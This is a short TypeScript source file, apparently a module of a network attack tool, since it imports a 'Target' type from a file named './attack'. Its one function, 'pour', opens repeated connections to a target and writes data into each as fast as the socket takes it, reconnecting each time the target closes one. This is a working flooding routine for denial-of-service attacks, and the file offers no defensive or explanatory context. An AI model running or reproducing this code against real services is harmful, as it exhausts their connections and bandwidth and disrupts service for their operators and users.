import { setTimeout as pause } from 'node:timers/promises';
import type { Target } from './attack';

/** Writes `first` and then `more` as long as it is taken, over a new connection where the one before was closed. */
export async function pour(target: Target, first: string, more: string): Promise<void> {
  while (target.goesOn()) {
    const socket = target.connect().resume();
    const closed = new Promise((resolve) => socket.once('close', resolve));
    socket.write(first);
    while (!socket.destroyed && target.goesOn()) {
      if (!socket.write(more)) await Promise.race([closed, new Promise((resolve) => socket.once('drain', resolve))]);
      await pause(0);
    }
    socket.destroy();
    await pause(1);
  }
}
